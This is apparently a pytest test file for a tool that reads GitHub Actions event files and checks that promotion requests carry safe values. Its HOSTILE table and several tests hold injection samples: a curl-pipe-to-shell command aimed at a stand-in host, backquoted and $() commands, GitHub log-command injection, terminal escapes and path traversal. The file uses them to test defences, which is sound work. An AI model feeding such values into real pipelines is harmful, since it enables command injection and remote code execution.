"""``headway event``: real files of GitHub's events are read, and whatever a sender may put into one is refused."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft7Validator

from headway.ci.event import PromotionEvent, read_event
from headway.ci.event_json import MAX_BYTES
from headway.cli.main import run
from headway.errors import SettingsError
from headway.values.registry.records import Promotion

if TYPE_CHECKING:
    from collections.abc import Callable

    Change = Callable[[dict[str, Any]], object]

EVENTS = Path(__file__).parent / "events"
SCHEMA = Path(__file__).parents[1] / "fakes/descriptions/github.webhooks.json"
SHA = "4f3c2a9e8b7d6c5f4e3d2c1b0a9f8e7d6c5b4a39"
OURS, WANDB, BY_HAND = "headway-promotion", "wandb-promotion", "workflow_dispatch"
READ = {
    OURS: PromotionEvent(
        kind="headway-promotion",
        name="digits",
        version="v1.2.0",
        stage="production",
        sha=SHA,
        tag="digits#production#7",
        author="github-actions[bot]",
    ),
    WANDB: PromotionEvent(kind="wandb-promotion", name="digits", stage="staging", sha=SHA, author="ada"),
    BY_HAND: PromotionEvent(
        kind="workflow_dispatch", name="models/de:digits", version="v1.1.0", stage="production", author="grace"
    ),
}
HOSTILE = {
    "a shell's command": "$(curl https://evil.example | sh)",
    "backquotes": "`id`",
    "the end of a quotation": 'digits" && id; "',
    "an option": "--force",
    "a new output": "digits\nsha=0000000000000000000000000000000000000000",
    "a command of the log": "::set-output name=sha::evil",
    "an old command of the log": "digits ##[add-path]/tmp",
    "an escape sequence": "\x1b]0;owned\x07\x1b[2J",
    "a carriage return": "digits\rproduction",
    "a character of no width": "dig\u200bits",
    "text that runs backwards": "\u202edigits",
    "a letter that looks alike": "pr\u043eduction",
    "digits of another script": "v1.\u0662.0",
    "half a character": "\ud800",
    "a null": "digits\x00",
    "a folder above": "../../etc:passwd",
    "spaces": "digits production",
    "a huge text": "a" * 60_000,
    "nothing": "",
}
REQUIRED = [
    *((OURS, field) for field in ("name", "stage", "sha")),
    *((WANDB, field) for field in ("name", "alias", "sha")),
    *((BY_HAND, field) for field in ("name", "stage")),
]
OPTIONAL = [(OURS, "version"), (OURS, "tag"), (BY_HAND, "version"), (WANDB, "event_author"), (WANDB, "event_type")]
VALUES = {"a number": 7, "null": None, "true": True, "a list": ["digits"], "an object": {"name": "digits"}}
LONG = "very/deep/" * 12 + "folder"
SENT = {
    "a commit without a version": Promotion(name="digits", stage="production", sha=SHA, tag="digits#production#7"),
    "a commit alone": Promotion(name="digits", stage="production", sha=SHA),
    "a tag without a counter": Promotion(
        name="digits", version="v1.2.0", stage="production", sha=SHA, tag="digits#production"
    ),
    "a counter with zeros": Promotion(
        name="digits", version="v1.2.0", stage="production", sha=SHA, tag="digits#production#007"
    ),
    "long names": Promotion(
        name=f"{LONG}:digits",
        version=f"v1.2.0-{'rc' * 30}+build.7",
        stage="canary-" * 10 + "eu",
        sha=SHA,
        tag=f"{LONG}=digits#{'canary-' * 10}eu#{10**17}",
    ),
}
"""Promotions of the registry, from tags that Headway or GTO made."""
PRINTABLE = re.compile(r"[ -~\n]*")
OUTPUT = re.compile(r"[A-Za-z0-9._/:#+@ \[\]-]*")


def event(kind: str) -> dict[str, Any]:
    """A real event, as a document to change."""
    document: dict[str, Any] = json.loads((EVENTS / f"{kind}.json").read_bytes())
    return document


def payload(document: dict[str, Any]) -> dict[str, Any]:
    """What the sender of an event chooses."""
    found: dict[str, Any] = document["inputs"] if "inputs" in document else document["client_payload"]
    return found


def read(folder: Path, document: object) -> PromotionEvent:
    file = folder / "event.json"
    file.write_text(json.dumps(document))
    return read_event(file)


def refusal(folder: Path, document: object) -> SettingsError:
    """The error that a document causes. None may harm who reads it, or quote everything that was sent."""
    with pytest.raises(SettingsError) as caught:
        read(folder, document)
    check_error(caught.value)
    return caught.value


def check_error(error: SettingsError) -> None:
    shown = str(error)
    assert PRINTABLE.fullmatch(shown)
    assert "##[" not in shown
    assert not re.search(r"^\s*::", shown, re.MULTILINE)
    assert len(shown) < 2_000
    assert "\n" not in error.what
    assert error.remedy


def validator(kind: str) -> Draft7Validator:
    schema = json.loads(SCHEMA.read_bytes())
    name = BY_HAND if kind == BY_HAND else "repository_dispatch"
    return Draft7Validator({**schema, "$ref": f"#/definitions/{name}$event"})


class TestRealEvents:
    @pytest.mark.parametrize("kind", READ)
    def test_it_is_one_by_the_official_schema(self, kind: str) -> None:
        document = event(kind)
        assert [error.message for error in validator(kind).iter_errors(document)] == []
        del document["repository"]["full_name"]
        document["more"] = 1
        assert len(list(validator(kind).iter_errors(document))) == 2

    @pytest.mark.parametrize("kind", READ)
    def test_it_is_read(self, kind: str) -> None:
        assert read_event(EVENTS / f"{kind}.json") == READ[kind]

    def test_a_dispatch_has_no_more_keys_than_github_allows(self) -> None:
        assert all(len(payload(event(kind))) <= 10 for kind in (OURS, WANDB))

    def test_what_github_adds_to_its_own_part_is_no_error(self, tmp_path: Path) -> None:
        document = event(OURS)
        document["enterprise"] = {"slug": "\u00e9quipe"}
        document["sender"]["user_view_type"] = "public"
        assert read(tmp_path, document) == READ[OURS]

    def test_an_artifact_of_a_folder_has_its_own_tags(self, tmp_path: Path) -> None:
        document = event(OURS)
        payload(document).update(name="models/de:digits", tag="models/de=digits#production#12")
        assert read(tmp_path, document).tag == "models/de=digits#production#12"

    @pytest.mark.parametrize("promotion", SENT.values(), ids=SENT)
    def test_whatever_promotion_headway_sends_is_read(self, promotion: Promotion, tmp_path: Path) -> None:
        document = event(OURS)
        document["client_payload"] = msgspec.to_builtins(promotion)
        found = read(tmp_path, document)
        assert msgspec.convert(found, Promotion, from_attributes=True) == promotion

    def test_no_name_is_longer_than_a_reference_of_github(self, tmp_path: Path) -> None:
        document = event(OURS)
        payload(document)["name"] = "d" * 256
        assert "at most 255 characters" in refusal(tmp_path, document).why

    def test_a_person_may_leave_the_version_to_headway(self, tmp_path: Path) -> None:
        document = event(BY_HAND)
        payload(document)["version"] = ""
        assert read(tmp_path, document).version == ""


class TestHostileValues:
    @pytest.mark.parametrize(("kind", "field"), REQUIRED)
    @pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
    def test_no_field_that_is_used_takes_them(self, kind: str, field: str, value: str, tmp_path: Path) -> None:
        document = event(kind)
        payload(document)[field] = value
        error = refusal(tmp_path, document)
        assert f".{field}`" in error.what or "names no stage" in error.what

    @pytest.mark.parametrize(("kind", "field"), OPTIONAL)
    @pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
    def test_what_may_be_left_out_takes_none_but_nothing(
        self, kind: str, field: str, value: str, tmp_path: Path
    ) -> None:
        document = event(kind)
        payload(document)[field] = value
        if not value:
            assert read(tmp_path, document).name == READ[kind].name
        elif (field, value) == ("event_author", HOSTILE["spaces"]):
            assert read(tmp_path, document).author == value
        else:
            assert f".{field}`" in refusal(tmp_path, document).what

    @pytest.mark.parametrize("field", ["artifact_version", "artifact_collection_name", "project_name", "entity_name"])
    @pytest.mark.parametrize(
        "value", [*HOSTILE.values(), "\u00e9quipe: Mod\u00e8les (2026)"], ids=[*HOSTILE, "a title"]
    )
    def test_what_only_describes_the_event_reaches_no_output(self, field: str, value: str, tmp_path: Path) -> None:
        document = event(WANDB)
        payload(document)[field] = value
        if value.isprintable() and len(value) <= 500:
            assert read(tmp_path, document) == READ[WANDB]
        else:
            assert f".{field}`" in refusal(tmp_path, document).what

    @pytest.mark.parametrize(("kind", "field"), [(kind, field) for kind in READ for field in payload(event(kind))])
    @pytest.mark.parametrize("value", VALUES.values(), ids=VALUES)
    def test_a_value_that_is_no_text_is_refused(self, kind: str, field: str, value: object, tmp_path: Path) -> None:
        document = event(kind)
        payload(document)[field] = value
        error = refusal(tmp_path, document)
        assert f".{field}`" in error.why
        assert "Expected `str`" in error.why

    @pytest.mark.parametrize("kind", READ)
    @pytest.mark.parametrize(
        "key",
        ["model_path", "::error::x", "\x1b[31m", "##[error]", "\ud800", "k" * 50_000],
        ids=["a plain one", "a command", "an escape sequence", "an old command", "half a character", "a huge one"],
    )
    def test_an_unknown_field_is_refused(self, kind: str, key: str, tmp_path: Path) -> None:
        document = event(kind)
        payload(document)[key] = "x"
        error = refusal(tmp_path, document)
        assert "unknown field" in error.why or "cannot be printed" in error.why

    @pytest.mark.parametrize(("kind", "field"), [(OURS, field) for field in payload(event(OURS))] + [(WANDB, "sha")])
    def test_a_missing_field_is_named_beside_all_others(self, kind: str, field: str, tmp_path: Path) -> None:
        document = event(kind)
        del payload(document)[field]
        error = refusal(tmp_path, document)
        assert f"missing required field `{field}`" in error.why
        assert "name, " in error.why

    @pytest.mark.parametrize(
        "tag",
        [
            "digits#production#",
            "digits#production#7#8",
            "digits#production!#7",
            "digits#staging#7",
            "mnist#production#7",
            "digits@v1.2.0",
            "refs/tags/digits#production#7",
            f"digits#production#{'7' * 19}",
        ],
    )
    def test_the_tag_is_the_one_of_the_other_fields(self, tag: str, tmp_path: Path) -> None:
        document = event(OURS)
        payload(document)["tag"] = tag
        assert "digits#production, or this with # and a counter" in refusal(tmp_path, document).why

    @pytest.mark.parametrize("sha", [SHA.upper(), SHA[:7], f"{SHA}0", "HEAD", "main"])
    def test_a_commit_is_named_by_its_full_sha(self, sha: str, tmp_path: Path) -> None:
        document = event(WANDB)
        payload(document)["sha"] = sha
        assert "full SHA" in refusal(tmp_path, document).why

    def test_a_strange_sender_is_no_author(self, tmp_path: Path) -> None:
        document = event(OURS)
        document["sender"]["login"] = "ada\nname=evil"
        assert "`sender.login`" in refusal(tmp_path, document).what


def vars_of(found: PromotionEvent) -> list[str]:
    return [getattr(found, name) for name in found.__struct_fields__]


class TestWandb:
    @pytest.mark.parametrize(
        ("field", "value"),
        [
            ("alias", "${alias}"),
            ("sha", "${artifact_metadata.sha}"),
            ("project_name", "${project_name"),
            ("event_author", "by ${event_author}"),
        ],
    )
    def test_a_variable_that_was_not_replaced_has_an_error_of_its_own(
        self, field: str, value: str, tmp_path: Path
    ) -> None:
        document = event(WANDB)
        payload(document)[field] = value
        error = refusal(tmp_path, document)
        assert error.what.startswith(f"W&B has not replaced the variable in `client_payload.{field}`")
        assert value in error.what

    @pytest.mark.parametrize("alias", ["latest", "v3", "v0"])
    @pytest.mark.parametrize("field", ["alias", "stage"])
    def test_an_alias_that_wandb_gives_itself_is_no_stage(self, alias: str, field: str, tmp_path: Path) -> None:
        document = event(WANDB)
        payload(document).update({"alias": "", field: alias})
        assert "is no stage" in refusal(tmp_path, document).what

    def test_a_version_that_is_linked_has_a_stage_instead_of_an_alias(self, tmp_path: Path) -> None:
        document = event(WANDB)
        del payload(document)["alias"]
        payload(document).update(event_type="LINK_ARTIFACT", stage="canary")
        assert read(tmp_path, document).stage == "canary"
        del payload(document)["stage"]
        assert "names no stage" in refusal(tmp_path, document).what

    def test_alias_and_stage_may_agree_but_not_differ(self, tmp_path: Path) -> None:
        document = event(WANDB)
        payload(document)["stage"] = "staging"
        assert read(tmp_path, document).stage == "staging"
        payload(document)["stage"] = "production"
        assert "two stages" in refusal(tmp_path, document).what

    def test_without_an_author_it_is_the_account_that_sent_the_event(self, tmp_path: Path) -> None:
        document = event(WANDB)
        payload(document)["event_author"] = ""
        assert read(tmp_path, document).author == "wandb-dispatch"

    def test_another_automation_is_refused(self, tmp_path: Path) -> None:
        document = event(WANDB)
        payload(document)["event_type"] = "RUN_METRIC"
        assert "LINK_ARTIFACT or ADD_ARTIFACT_ALIAS" in refusal(tmp_path, document).why


def _both(document: dict[str, Any]) -> None:
    document["inputs"] = {}


OTHER_EVENTS: dict[str, tuple[Change, str]] = {
    "a push": (lambda document: document.pop("client_payload"), "asks for no promotion"),
    "two events in one": (_both, "asks for no promotion"),
    "another type": (lambda document: document.update(action="deploy\x1b[2J"), "'deploy\\x1b[2J' is not known"),
    "no type": (lambda document: document.pop("action"), "fields are wrong"),
    "a list as payload": (lambda document: document.update(client_payload=[1]), "fields are wrong"),
    "no sender": (lambda document: document.pop("sender"), "fields are wrong"),
}
FILES: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "Expecting value"),
    "no object": (b'["client_payload"]', "not a JSON object"),
    "no JSON": (b"{'client_payload': 1}", "line 1 column 2"),
    "not UTF-8": (b'{"action": "\xff"}', "not UTF-8"),
    "a byte order mark": (b"\xef\xbb\xbf{}", "BOM"),
    "not a number": (b'{"inputs": NaN}', "no NaN"),
    "infinite": (b'{"inputs": -Infinity}', "no -Infinity"),
    "a number of 5,000 digits": (b'{"inputs": %s}' % (b"1" * 5000), "4300 digits"),
    "a key twice": (b'{"inputs": {"name": "a", "na\\u006de": "b"}}', "'name' occurs twice"),
    "a key twice at the top": (b'{"inputs": {}, "inputs": {}}', "'inputs' occurs twice"),
    "an empty key twice": (b'{"": 1, "": 2}', "'' occurs twice"),
    "too deep": (b'{"inputs": ' + b"[" * 50_000, "nested too deeply"),
    "too large": (b'{"inputs": "' + b"a" * MAX_BYTES + b'"}', "more than 128 KiB"),
    "too large, and no JSON": (b"[" * (MAX_BYTES + 1), "more than 128 KiB"),
}


class TestFiles:
    @pytest.mark.parametrize(("change", "what"), OTHER_EVENTS.values(), ids=OTHER_EVENTS)
    def test_another_event_is_refused(self, change: Change, what: str, tmp_path: Path) -> None:
        document = event(OURS)
        change(document)
        assert what in refusal(tmp_path, document).what

    @pytest.mark.parametrize(("data", "why"), FILES.values(), ids=FILES)
    def test_a_file_that_is_no_event_is_refused(self, data: bytes, why: str, tmp_path: Path) -> None:
        (tmp_path / "event.json").write_bytes(data)
        with pytest.raises(SettingsError) as caught:
            read_event(tmp_path / "event.json")
        assert why in caught.value.why
        check_error(caught.value)

    @pytest.mark.parametrize("levels", [90, 400, 900, 2_000])
    def test_no_depth_is_an_unexpected_error(self, levels: int, tmp_path: Path) -> None:
        document = json.dumps(event(OURS)).replace('"digits#production#7"', "[" * levels + "]" * levels)
        (tmp_path / "event.json").write_text(document)
        with pytest.raises(SettingsError):
            read_event(tmp_path / "event.json")

    def test_a_file_that_cannot_be_read(self, tmp_path: Path) -> None:
        for path in (tmp_path / "missing.json", tmp_path):
            with pytest.raises(SettingsError, match="cannot be read"):
                read_event(path)


class TestCommand:
    def test_the_event_of_the_job_is_printed(
        self, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        monkeypatch.setenv("GITHUB_EVENT_PATH", str(EVENTS / f"{WANDB}.json"))
        assert run(["event"]) == 0
        fields = {"kind": WANDB, "name": "digits", "version": "", "stage": "staging", "sha": SHA, "tag": ""}
        assert json.loads(capsys.readouterr().out) == {**fields, "author": "ada"}

    def test_outputs_are_lines_after_those_of_before(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        outputs = tmp_path / "outputs"
        outputs.write_text("remote=s3\n")
        monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
        assert run(["event", str(EVENTS / f"{OURS}.json"), "--output"]) == 0
        assert outputs.read_text() == (
            f"remote=s3\nkind=headway-promotion\nname=digits\nversion=v1.2.0\nstage=production\nsha={SHA}\n"
            "tag=digits#production#7\nauthor=github-actions[bot]\n"
        )

    def test_a_refused_event_leaves_no_output(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        monkeypatch.setenv("GITHUB_OUTPUT", str(tmp_path / "outputs"))
        document = event(WANDB)
        payload(document)["sha"] = "$(id)"
        (tmp_path / "event.json").write_text(json.dumps(document))
        assert run(["event", str(tmp_path / "event.json"), "--output"]) == 2
        shown = capsys.readouterr()
        assert shown.out == ""
        assert "`client_payload.sha` cannot be used: it is '$(id)'" in shown.err
        assert not (tmp_path / "outputs").exists()

    @pytest.mark.parametrize("variable", ["GITHUB_EVENT_PATH", "GITHUB_OUTPUT"])
    def test_outside_of_github_actions_the_variable_is_named(
        self, variable: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        monkeypatch.setenv("GITHUB_EVENT_PATH", str(EVENTS / f"{OURS}.json"))
        monkeypatch.delenv(variable, raising=False)
        assert run(["event", "--output"]) == 2
        assert f"{variable} is not set" in capsys.readouterr().err

    def test_outputs_that_cannot_be_written(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        monkeypatch.setenv("GITHUB_OUTPUT", str(tmp_path))
        assert run(["event", str(EVENTS / f"{OURS}.json"), "--output"]) == 3
        assert "could not be written" in capsys.readouterr().err


_texts = st.text(st.characters(exclude_categories=()), max_size=80) | st.sampled_from(
    [*HOSTILE.values(), "staging", "v1.0.0", SHA, "latest"]
)
_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | _texts,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_texts, inner, max_size=4),
    max_leaves=12,
)
_fields = st.sampled_from(sorted({field for kind in READ for field in payload(event(kind))} | {"stage", "more"}))
_relaxed = settings(suppress_health_check=[HealthCheck.function_scoped_fixture])


class TestProperties:
    """Whatever is sent, the result is clean, or an error says what is wrong with it."""

    @_relaxed
    @given(kind=st.sampled_from(sorted(READ)), changes=st.dictionaries(_fields, _texts | _json, max_size=3))
    def test_a_changed_payload(self, kind: str, changes: dict[str, object], tmp_path: Path) -> None:
        document = event(kind)
        payload(document).update(changes)
        self.check(tmp_path, json.dumps(document).encode())

    @_relaxed
    @given(kind=st.sampled_from(sorted(READ)), sent=_json)
    def test_any_payload(self, kind: str, sent: object, tmp_path: Path) -> None:
        document = event(kind)
        document["inputs" if kind == BY_HAND else "client_payload"] = sent
        self.check(tmp_path, json.dumps(document).encode())

    @_relaxed
    @given(data=st.binary(max_size=200) | _json.map(lambda value: json.dumps(value).encode()))
    def test_any_file(self, data: bytes, tmp_path: Path) -> None:
        self.check(tmp_path, data)

    @_relaxed
    @given(kind=st.sampled_from(sorted(READ)), data=st.data())
    def test_a_damaged_file(self, kind: str, data: st.DataObject, tmp_path: Path) -> None:
        whole = bytearray((EVENTS / f"{kind}.json").read_bytes())
        for place in data.draw(st.lists(st.integers(0, len(whole) - 1), min_size=1, max_size=5)):
            whole[place] = data.draw(st.integers(0, 255))
        self.check(tmp_path, bytes(whole))

    def check(self, folder: Path, data: bytes) -> None:
        (folder / "event.json").write_bytes(data)
        try:
            found = read_event(folder / "event.json")
        except SettingsError as error:
            check_error(error)
        else:
            assert all(OUTPUT.fullmatch(value) for value in vars_of(found))
            assert found.name
            assert found.stage
            assert found.sha or found.kind == BY_HAND
